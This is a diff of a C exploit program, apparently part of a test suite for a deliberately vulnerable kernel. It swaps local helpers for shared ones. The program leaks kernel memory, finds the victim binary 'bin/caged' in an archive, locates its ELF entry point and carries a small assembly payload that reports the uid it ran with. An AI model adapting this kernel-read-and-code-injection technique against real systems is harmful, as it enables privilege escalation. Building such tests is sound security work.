@@ -8,7 +8,7 @@
 #include "attack.h"
 
 #define VICTIM "bin/caged"
-enum { BLOCK_BYTES = 512, UID_BASE = 1000 };
+enum { UID_BASE = 1000 };
 
 /* Exits with its uid, less UID_BASE. */
 extern const char payload[], payload_end[];
@@ -16,39 +16,15 @@ __asm__(".section .rodata\n.balign 8\n.globl payload, payload_end\n"
 	"payload:\n mov $102, %eax\n syscall\n mov %eax, %edi\n sub $1000, %edi\n"
 	" mov $231, %eax\n syscall\n .balign 8\npayload_end:\n.text\n");
 
-static void read_kernel(uint64_t from, void *to, size_t nr_bytes)
-{
-	for (size_t at = 0; at < nr_bytes; at += sizeof(uint64_t)) {
-		uint64_t word = (uint64_t)bw_vuln_read(from + at);
-
-		memcpy((char *)to + at, &word,
-		       nr_bytes - at < sizeof(word) ? nr_bytes - at : sizeof(word));
-	}
-}
-
-/* Where the archive has the bytes of the file, from its first byte on; 0: it does not have it. */
-static uint64_t find_file(const struct bw_leak *leak)
-{
-	char name[sizeof(VICTIM)];
-
-	for (uint64_t at = 0; at < leak->archive_bytes; at += BLOCK_BYTES) {
-		read_kernel(leak->archive + at, name, sizeof(name));
-		if (memcmp(name, VICTIM, sizeof(name)) == 0) {
-			return at + BLOCK_BYTES;
-		}
-	}
-	return 0;
-}
-
 /* Where the file has the instruction that it starts with. */
 static uint64_t entry_offset(uint64_t file)
 {
 	Elf64_Ehdr header;
 	Elf64_Phdr segment;
 
-	read_kernel(file, &header, sizeof(header));
+	attack_read(file, &header, sizeof(header));
 	for (unsigned int i = 0; i < header.e_phnum; i++) {
-		read_kernel(file + header.e_phoff + i * sizeof(segment), &segment, sizeof(segment));
+		attack_read(file + header.e_phoff + i * sizeof(segment), &segment, sizeof(segment));
 		if (segment.p_type == PT_LOAD &&
 		    header.e_entry - segment.p_vaddr < segment.p_filesz) {
 			return segment.p_offset + header.e_entry - segment.p_vaddr;
@@ -64,7 +40,7 @@ int main(void)
 	int status = 0;
 
 	attack_leak(&leak);
-	file = find_file(&leak);
+	file = attack_archive_find(&leak, VICTIM);
 	if (file == 0) {
 		attack_skip("there is no " VICTIM);
 	}
